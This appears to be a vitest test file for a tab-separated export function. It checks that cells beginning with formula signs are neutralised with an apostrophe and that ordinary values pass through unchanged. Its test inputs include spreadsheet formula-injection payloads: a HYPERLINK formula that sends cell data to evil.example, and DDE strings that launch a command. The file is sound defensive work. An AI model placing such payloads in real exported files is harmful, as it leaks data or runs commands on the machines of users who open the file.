import {expect, it} from 'vitest';
import {tabSeparated} from './tab-separated';

const copied = (text: string) =>
	tabSeparated([{title: 'Name', text: () => text}], [{}]).split('\n')[1];

it.each([
	'=HYPERLINK("http://evil.example/?"&B2;"x")',
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'+cmd',
	"-2+3+cmd|' /C calc'!A0",
	' =1+1',
	'＝1+1',
])('a spreadsheet does not reckon with %s', text => {
	expect(copied(text)).toBe(`'${text}`);
});

it('nor where the sign stands behind a tab or a line', () => {
	expect(copied('\t=1+1')).toBe("' =1+1");
	expect(copied('\r\n=1+1')).toBe("' =1+1");
});

it.each(['general', '-5', '+49 30 1234', '-1,234.5', 'a=b', 'ines@kestrel.example', ''])(
	'%s is copied as it is',
	text => {
		expect(copied(text)).toBe(text);
	},
);
